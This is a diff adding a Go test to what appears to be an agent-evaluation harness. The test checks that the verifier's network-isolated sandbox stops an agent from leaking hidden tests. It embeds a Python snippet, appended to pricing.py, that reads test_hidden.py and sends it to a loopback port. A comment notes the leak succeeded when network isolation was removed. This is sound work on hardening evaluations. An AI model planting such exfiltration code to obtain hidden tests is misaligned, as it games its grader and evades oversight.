@@ -342,3 +342,57 @@ cat "$1" >> pricing.py`
 		t.Errorf("a sleeper outlived the run: %s", p)
 	}
 }
+
+// TestVerifierHasNoNetwork: the agent leaves code in the module the
+// verifier imports that sends the hidden tests to a port on the host's
+// loopback (another trial's agent, a server of its own). The verifier's
+// sandbox reaches nothing: the listener hears no one, the verdict stands.
+// (Without the verifier's own namespace the hidden tests arrived: seen
+// with --unshare-net removed.)
+func TestVerifierHasNoNetwork(t *testing.T) {
+	f := newFixture(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	heard := make(chan string, 16)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			b := make([]byte, 4096)
+			n, _ := c.Read(b)
+			heard <- string(b[:n])
+			c.Close()
+		}
+	}()
+	leak := fmt.Sprintf(`
+import os, socket
+try:
+    socket.create_connection(("127.0.0.1", %d), timeout=5).sendall(open(os.path.join(os.environ.get("TESTS_DIR", "."), "test_hidden.py"), "rb").read())
+except OSError:
+    pass
+`, ln.Addr().(*net.TCPAddr).Port)
+	script := "python3 -c '" + fix + "'\ncat >> pricing.py <<'EOF'\n" + leak + "EOF\n"
+	res, out := f.run(t, "vanilla", "bash", "-c", script)
+	// a last connection of the test's own: the listener accepts in
+	// order, so any the verifier made is heard before it
+	c, err := net.Dial("tcp", ln.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.Write([]byte("END"))
+	c.Close()
+	for got := range heard {
+		if got == "END" {
+			break
+		}
+		t.Errorf("the verifier reached the host: %.80q", got)
+	}
+	ln.Close()
+	if resolved(res) != "true" {
+		t.Errorf("resolved %s, want true (the fix stands)\n%s", resolved(res), out)
+	}
+}
